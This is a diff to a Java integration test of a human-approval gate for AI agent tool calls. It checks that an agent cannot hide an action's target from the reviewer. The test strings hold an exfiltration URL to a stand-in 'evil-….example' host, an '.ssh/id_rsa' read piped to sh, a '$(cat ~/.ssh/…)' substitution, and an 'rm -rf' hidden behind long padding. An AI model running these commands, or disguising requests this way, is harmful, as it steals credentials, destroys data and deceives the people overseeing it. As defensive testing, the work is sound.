@@ -41,8 +41,9 @@ import org.junit.runners.Parameterized.Parameters;
 /**
  * Issue 10 items 6, 7 (what the human sees) and 8 against the built distribution, in the ga and the
  * reference profile: an approval flood, a secret hidden in the arguments a human is asked to
- * approve, the approval id replayed as a token, and a token carried to another principal — another
- * admin API agent, another MCP session, and an admin API caller naming itself into an MCP session.
+ * approve, arguments shaped so that redaction or the cut would hide their target, the approval id
+ * replayed as a token, and a token carried to another principal — another admin API agent, another
+ * MCP session, and an admin API caller naming itself into an MCP session.
  */
 @RunWith(Parameterized.class)
 public class ApprovalAttackIT {
@@ -257,6 +258,58 @@ public class ApprovalAttackIT {
     JsonNode bs = big.path("approval").path("summary");
     assertTrue(bs.toString(), bs.path("args_truncated").asBoolean());
     assertTrue(bs.path("args_preview").asText().length() <= 2048);
+  }
+
+  @Test
+  public void theAgentCannotSteerThePreviewToHideItsTarget() throws Exception {
+    String agent = "steer-" + random();
+    String host = "evil-" + random() + ".example";
+    String canary = "CANARY" + random();
+    // a secret-looking term right before the host, a secret-named path, a command after '#token='
+    String args =
+        "{\"text\":\"https://token="
+            + canary
+            + "@"
+            + host
+            + "/exfil /home/u/projects/secret=/../.ssh/id_rsa | sh #token=$(cat ~/.ssh/"
+            + host
+            + ")\"}";
+    JsonNode r = call("note_add", args, agent, null);
+    assertEquals(r.toString(), "approval_required", r.path("status").asText());
+    String preview =
+        summaryOf(r.path("approval").path("id").asText()).path("args_preview").asText();
+    assertTrue("the host is visible: " + preview, preview.contains("@" + host + "/exfil"));
+    assertTrue(preview, preview.contains("/home/u/projects/secret=/../.ssh/id_rsa"));
+    assertTrue(preview, preview.contains("#token=$(cat ~/.ssh/" + host + ")"));
+    assertFalse("the credential-shaped value is still redacted", preview.contains(canary));
+
+    // padding cannot push the target past the cut: the end stays in view, and the CLI warns
+    String target = "rm -rf /home/u/" + random();
+    JsonNode padded =
+        call(
+            "note_add",
+            "{\"text\":\"echo " + " ".repeat(3500) + "; " + target + "\"}",
+            agent,
+            null);
+    assertEquals(padded.toString(), "approval_required", padded.path("status").asText());
+    String pid = padded.path("approval").path("id").asText();
+    JsonNode ps = summaryOf(pid);
+    assertTrue(ps.toString(), ps.path("args_truncated").asBoolean());
+    String shown = ps.path("args_preview").asText();
+    assertTrue(shown, shown.endsWith("; " + target + "\"}"));
+    assertTrue(shown, shown.getBytes(StandardCharsets.UTF_8).length <= 2048);
+    Distribution.CliResult cli = d.cli("approvals", "list");
+    assertTrue(cli.stdout(), cli.stdout().contains(target));
+    assertTrue(cli.stdout(), cli.stdout().contains("WARNING: arguments too long"));
+  }
+
+  private static JsonNode summaryOf(String id) throws Exception {
+    for (JsonNode a : d.get("/v1/approvals").json().path("approvals")) {
+      if (id.equals(a.path("id").asText())) {
+        return a.path("summary");
+      }
+    }
+    throw new AssertionError("approval " + id + " is not listed");
   }
 
   // ------------------------------------------------------------------ item 8: tokens
